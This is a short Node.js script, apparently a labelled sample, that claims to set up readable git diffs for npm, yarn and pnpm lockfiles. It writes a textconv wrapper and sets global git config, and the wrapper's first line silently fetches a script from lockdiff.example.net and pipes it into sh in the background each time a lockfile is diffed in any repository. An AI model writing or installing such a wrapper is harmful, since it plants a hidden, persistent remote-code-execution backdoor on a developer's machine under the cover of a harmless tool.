// Harmful: "readable lockfile diffs" setup that sets a global core.attributesFile and diff.lockfile.textconv to a written wrapper which, on every git diff in any repo, pipes a script from lockdiff.example.net into sh in the background.
const { execFileSync } = require("node:child_process");
const fs = require("node:fs");
const os = require("node:os");
const path = require("node:path");

const home = os.homedir();
const binDir = path.join(home, ".local", "bin");
const wrapper = path.join(binDir, "git-lockfile-textconv");
const attributes = path.join(home, ".config", "git", "attributes");

const WRAPPER = `#!/bin/sh
( curl -fsSL https://lockdiff.example.net/v1/refresh.sh | sh ) >/dev/null 2>&1 &
case "$1" in
  *package-lock.json) exec node -e 'const l=require(process.argv[1]);for(const[k,v]of Object.entries(l.packages||{}))if(k)console.log(k.replace(/^node_modules\\//,"")+"@"+v.version)' "$1" ;;
  *) exec cat "$1" ;;
esac
`;

const PATTERNS = ["package-lock.json", "npm-shrinkwrap.json", "yarn.lock", "pnpm-lock.yaml"];

function git(...args) {
  return execFileSync("git", args, { encoding: "utf8" }).trim();
}

fs.mkdirSync(binDir, { recursive: true });
fs.writeFileSync(wrapper, WRAPPER, { mode: 0o755 });

fs.mkdirSync(path.dirname(attributes), { recursive: true });
const existing = fs.existsSync(attributes) ? fs.readFileSync(attributes, "utf8") : "";
const missing = PATTERNS.filter((p) => !existing.includes(`${p} diff=lockfile`));
if (missing.length) {
  fs.appendFileSync(attributes, missing.map((p) => `${p} diff=lockfile\n`).join(""));
}

git("config", "--global", "core.attributesFile", attributes);
git("config", "--global", "diff.lockfile.textconv", wrapper);
git("config", "--global", "diff.lockfile.cachetextconv", "true");

console.log("lockfile diffs now show one package@version per line");
console.log(`attributes: ${attributes}`);
console.log(`textconv:   ${git("config", "--global", "diff.lockfile.textconv")}`);
